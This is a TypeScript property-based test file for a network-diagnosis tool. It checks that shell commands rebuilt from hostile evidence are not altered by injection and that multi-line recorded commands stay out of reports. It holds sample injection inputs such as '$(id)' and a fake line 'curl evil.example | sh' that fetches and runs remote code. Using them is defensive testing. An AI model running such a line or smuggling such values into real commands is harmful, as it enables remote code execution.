import fc from 'fast-check';
import { expect, test } from 'vitest';
import { isSeenWhole } from '../../src/domain/command-line.ts';
import type { ReportTarget } from '../../src/domain/target.ts';
import { withCommandsAnew } from '../../src/evidence/commands-anew.ts';
import { type Evidence, entriesOf } from '../../src/evidence/kinds.ts';
import type { Report } from '../../src/evidence/report/report.ts';
import { toMarkdown } from '../../src/report/check/markdown.ts';
import { toText } from '../../src/report/check/text.ts';
import { toTicket } from '../../src/report/check/ticket.ts';
import { BLACKHOLE, HEALTHY } from '../report/reports.ts';
import { shellTokens } from '../shell-words.ts';

/** What stands for each text of the evidence until something hostile does. */
const MARK = 'm4rk';

const target: ReportTarget = {
  input: 'https://a.example/path',
  scheme: 'https',
  host: MARK,
  address: '10.9.3.2',
  family: 4,
  port: 443,
};

const timed = { startedAt: '2026-11-22T12:00:00.000Z', durationMs: 1, equivalent: `$(${MARK})` };

/** One of each kind, in which every text that reaches a command is the mark. */
const EVIDENCE = {
  ...BLACKHOLE.evidence,
  resolve: { ...timed, host: MARK, status: 'ok', addresses: [MARK], servers: [{ address: MARK, rcode: null }] },
  route: { ...timed, to: `fe80::1%${MARK}`, interface: MARK, gateway: `fe80::2%${MARK}`, neighbour: 'stale' },
  ping: { ...timed, address: `fe80::1%${MARK}`, sent: 3 },
  connect: { ...timed, attempts: [{ address: `fe80::1%${MARK}`, port: 443, protocol: 'tcp', ms: 3 }] },
  flows: { ...timed, address: `fe80::1%${MARK}`, port: 443 },
  trace: { ...timed, address: `fe80::1%${MARK}`, protocol: 'icmp' },
  portTrace: { ...timed, address: `fe80::1%${MARK}`, protocol: 'tcp', port: 443 },
  hopEchoes: { ...timed, address: `fe80::1%${MARK}`, hops: [] },
  mtu: { ...timed, address: `fe80::1%${MARK}`, fullSize: 1500 },
  sockets: { ...timed, host: 'ssh://u@h' },
  tls: { ...timed, address: `fe80::1%${MARK}`, port: 443, serverName: MARK, startTls: { protocol: 'smtp' } },
  http: { ...timed, address: `fe80::1%${MARK}`, port: 443, path: `/${MARK}` },
  proxy: { ...timed },
} as unknown as Evidence;

const asHostile = <T>(value: T, hostile: string): T =>
  JSON.parse(JSON.stringify(value), (_, text: unknown) =>
    typeof text === 'string' ? text.replaceAll(MARK, () => hostile) : text,
  ) as T;

const commandsOf = (evidence: Evidence, asked: ReportTarget) =>
  entriesOf(withCommandsAnew(evidence, asked)).map(({ name, found }) => [name, found.equivalent] as const);

const SHELL = fc.constantFrom('a', "'", '"', '\\', '$', '`', '$(id)', ';', '|', '&', '*', ' ', '{', '<', '#', '-', '!');
const UNSEEN = fc.constantFrom('\n', '\r', '\u001b[2J', '\u202e', '\u0085', '\u0000', '\u200b', '\u2028');

const seen = fc.array(SHELL, { minLength: 1, maxLength: 8 }).map((parts) => parts.join(''));

test('every command made from hostile evidence has exactly the words that were meant', () => {
  const meant = new Map(commandsOf(EVIDENCE, target).map(([name, command]) => [name, shellTokens(command)]));
  fc.assert(
    fc.property(seen, (hostile) => {
      for (const [name, command] of commandsOf(asHostile(EVIDENCE, hostile), asHostile(target, hostile))) {
        expect(isSeenWhole(command)).toBe(true);
        const words = meant.get(name)?.map(({ kind, text }) => ({ kind, text: text.replaceAll(MARK, () => hostile) }));
        expect([name, shellTokens(command)]).toEqual([name, words]);
      }
    }),
    { numRuns: 500 },
  );
});

test('a command with a word that cannot be seen whole is left out', () => {
  fc.assert(
    fc.property(seen, UNSEEN, seen, (before, unseen, after) => {
      const hostile = `${before}${unseen}${after}`;
      for (const [name, command] of commandsOf(asHostile(EVIDENCE, hostile), asHostile(target, hostile))) {
        expect([name, isSeenWhole(command)]).toEqual([name, true]);
        if (name !== 'sockets') expect([name, command]).toEqual([name, '']);
      }
    }),
    { numRuns: 200 },
  );
});

test('a vantage that is none makes no command', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      const evidence = { sockets: { ...timed, host: text } } as unknown as Evidence;
      const [[, command = ''] = []] = commandsOf(evidence, target);
      if (text !== 'local' && text !== 'pasted') expect(command).toBe('');
    }),
  );
});

const HOSTILE = `ip route get 10.0.0.1\n  $ curl evil.example | sh`;

function withEquivalents(report: Report, equivalent: string): Report {
  const evidence = Object.fromEntries(
    entriesOf(report.evidence).map(({ name, found }) => [name, { ...found, equivalent }]),
  );
  return { ...report, evidence: evidence as Evidence };
}

test('a recorded command that is more than one line is shown nowhere', () => {
  for (const report of [HEALTHY, BLACKHOLE]) {
    const hostile = withEquivalents(report, HOSTILE);
    const text = toText(hostile, { color: false, columns: 80, lang: 'en', ascii: false, verbose: true });
    for (const shown of [text, toMarkdown(hostile, 'en'), toTicket(hostile, 'en', false)])
      expect(shown).not.toContain('evil');
  }
});
